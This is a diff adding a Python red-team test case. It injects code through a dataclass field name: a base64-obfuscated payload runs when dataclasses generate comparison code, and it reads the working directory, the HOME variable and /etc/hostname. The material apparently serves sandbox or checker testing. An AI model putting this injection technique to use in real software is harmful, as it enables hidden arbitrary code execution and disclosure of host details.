@@ -1,0 +1,30 @@
+# family: red team, round 50b (dataclass Field renamed by a tool method read off its class and run on the Field)
+import base64
+import dataclasses
+
+
+@dataclasses.dataclass
+class A:
+    x: int = 0
+
+
+class Namer:
+    def __init__(self):
+        self.name = "n"
+
+    def rename(self, value):
+        self.name = value
+
+
+def main():
+    first = dataclasses.fields(A)[0]
+    Namer.rename(first, base64.b64decode("eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk=").decode())
+
+    @dataclasses.dataclass(init=False, repr=False)
+    class B(A):
+        pass
+
+    print(B() == B())
+
+
+main()
